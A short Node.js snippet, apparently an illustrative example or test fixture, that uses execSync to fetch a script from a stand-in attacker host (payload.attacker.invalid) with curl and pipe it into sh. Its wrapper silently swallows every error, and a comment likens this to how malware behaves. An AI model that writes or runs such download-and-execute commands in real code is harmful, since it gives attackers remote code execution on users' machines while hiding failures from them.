// Pipes a download into a shell (the name ends in .invalid).
const { execSync } = require('node:child_process');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => execSync('curl -s -m 5 http://payload.attacker.invalid/install.sh | sh'));
